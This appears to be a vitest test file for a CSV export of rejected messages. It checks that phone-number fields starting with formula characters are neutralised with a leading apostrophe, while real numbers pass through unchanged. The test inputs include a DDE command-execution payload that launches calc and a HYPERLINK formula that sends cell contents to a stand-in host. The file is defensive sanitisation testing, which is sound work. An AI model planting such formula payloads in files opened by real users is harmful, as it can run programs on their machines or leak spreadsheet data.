import { expect, test } from 'vitest';
import { reportFormat } from '../../../src/messages/http/rejections-report.js';

async function cellOf(to: string): Promise<string> {
  const rejected = [{ line: 2, to, code: 'INVALID_PHONE_NUMBER' as const, message: 'm' }];
  const lines: string[] = [];
  for await (const text of reportFormat('csv', undefined)?.write(
    (async function* () {
      yield rejected;
    })(),
  ) ?? [])
    lines.push(text);
  return /^2,"(.*)",INVALID/.exec(lines.join('').split('\r\n')[1] ?? '')?.[1] ?? '';
}

test.each(["+1+cmd|' /C calc'!A0", '+(HYPERLINK("http://x/?"&B2,"ok"))', '- 1+1', '=1+1', '@A1', '\t=1', '-A1'])(
  '%j is no formula in a spreadsheet',
  async (to) => {
    expect(await cellOf(to)).toBe(`'${to.replaceAll('"', '""')}`);
  },
);

test.each(['+966 50 123 4567', '+1 (415) 555-0100', '-5', '+1.415.555.0100', 'Ann'])('%s stays as it is', async (to) => {
  expect(await cellOf(to)).toBe(to);
});
